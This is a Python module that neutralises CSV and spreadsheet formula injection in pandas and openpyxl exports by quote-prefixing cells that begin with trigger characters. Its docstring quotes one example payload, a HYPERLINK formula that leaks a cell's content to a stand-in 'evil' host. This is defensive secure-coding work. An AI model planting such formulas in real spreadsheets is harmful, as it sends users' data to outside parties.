"""Cells a spreadsheet would run: text written as text (the OWASP CSV-injection rule).

A step title such as ``=HYPERLINK("http://evil/?leak="&A1, "click")`` is a
formula to Excel, LibreOffice and Google Sheets when the cell starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return. OWASP's rule: prefix
such a cell with a single quote, so it is shown as the text it is. In a
workbook the cell is also stored as text, with Excel's quote prefix, so that
editing it later does not turn it into a formula either.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

from careerlib.exceptions import ExportError

__all__ = ["EXCEL_CELL_LIMIT", "check_cell_lengths", "safe_cell", "safe_frame", "secure_workbook"]

#: The most characters an Excel cell holds.
EXCEL_CELL_LIMIT = 32_767

# OWASP's list, and the full-width forms some spreadsheets read the same way
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """``value`` prefixed with ``'`` when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(_TRIGGERS):
        return "'" + value
    return value


def _csv_cell(value: Any) -> Any:
    if isinstance(value, str) and "\r" in value:
        # a CSV writer ending lines with \n leaves a lone \r unquoted, and a
        # spreadsheet starts a new row there: "x\r=1+1" would put a formula
        # at the start of a cell. As \n, the cell is quoted.
        value = value.replace("\r\n", "\n").replace("\r", "\n")
    return safe_cell(value)


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` for CSV: :func:`safe_cell` on every text cell and label.

    Carriage returns inside a text become line feeds, which the CSV writer quotes.
    """
    out = frame.copy()
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col]) and not pd.api.types.is_bool_dtype(out[col]):
            out[col] = [_csv_cell(v) for v in out[col]]
    out.index = pd.Index([_csv_cell(v) for v in out.index], name=_csv_cell(out.index.name))
    out.columns = [_csv_cell(c) for c in out.columns]
    return out


def check_cell_lengths(frame: pd.DataFrame, sheet: str) -> None:
    """Refuse a text longer than an Excel cell holds, before the writer cuts it silently.

    Raises
    ------
    ExportError
        Naming the sheet, the row and the column, the length and the limit.
    """
    for col in frame.columns:
        for label, value in zip(frame.index, frame[col], strict=True):
            if isinstance(value, str) and len(value) > EXCEL_CELL_LIMIT:
                raise ExportError(
                    f"sheet {sheet!r}, {frame.index.name or 'row'} {label!r}, {col}: a text of "
                    f"{len(value):,} characters; an Excel cell holds at most "
                    f"{EXCEL_CELL_LIMIT:,} (shorten it, or export .csv)"
                )


def secure_workbook(workbook: Any) -> None:
    """Make every text cell of every sheet of an openpyxl workbook plain text.

    A cell that openpyxl took for a formula (its text starts with ``=``) is
    stored as a string; text a spreadsheet would evaluate gets the quote prefix.

    Raises
    ------
    ExportError
        When a cell holds more than :data:`EXCEL_CELL_LIMIT` characters, which
        Excel would cut: the message names the sheet, the cell and the limit.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str):
                    continue
                if len(value) > EXCEL_CELL_LIMIT:
                    raise ExportError(
                        f"sheet {sheet.title!r}, cell {cell.coordinate}: a text of "
                        f"{len(value):,} characters; an Excel cell holds at most "
                        f"{EXCEL_CELL_LIMIT:,} (shorten it, or export .csv)"
                    )
                if cell.data_type == "f" or value.startswith(_TRIGGERS):
                    cell.value = safe_cell(value)
                    cell.data_type = "s"
                    cell.quotePrefix = True
